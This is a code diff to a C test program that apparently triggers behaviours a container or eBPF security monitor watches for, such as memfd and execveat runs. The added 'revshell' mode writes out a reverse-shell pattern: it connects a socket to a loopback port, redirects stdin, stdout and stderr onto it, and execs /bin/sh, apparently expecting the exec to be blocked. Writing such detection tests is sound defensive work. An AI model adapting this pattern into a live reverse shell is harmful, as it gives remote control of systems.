@@ -20,6 +20,9 @@
 #include <time.h>
 #include <linux/bpf.h>
 #include <linux/perf_event.h>
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
 static long long now_ns(void)
 {
 	struct timespec t;
@@ -79,6 +82,17 @@ int main(int argc, char **argv)
 		while ((n = read(in, b, sizeof b)) > 0) write(fd, b, n);
 		char *av[] = { "true", NULL }, *ev[] = { NULL };
 		r = syscall(SYS_execveat, fd, "", av, ev, AT_EMPTY_PATH);
+	} else if (!strcmp(w, "revshell")) {
+		struct sockaddr_in a = { .sin_family = AF_INET,
+					 .sin_port = htons(argc > 2 ? atoi(argv[2]) : 9000) };
+		int s = socket(AF_INET, SOCK_STREAM, 0), err = dup(2);
+		a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+		if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof a) < 0)
+			return perror("revshell connect"), 1;
+		dup2(s, 0); dup2(s, 1); dup2(s, 2);
+		char *av[] = { "sh", "-c", "true", NULL }, *ev[] = { NULL };
+		r = execve("/bin/sh", av, ev);
+		dup2(err, 1); /* the exec was refused: say so on the container's stdout */
 	} else if (!strcmp(w, "memfdproc")) { /* a memfd run through its /proc path */
 		int fd = memfd_create("x", 0), in = open("/bin/busybox", O_RDONLY);
 		char b[65536], p[64]; ssize_t n;
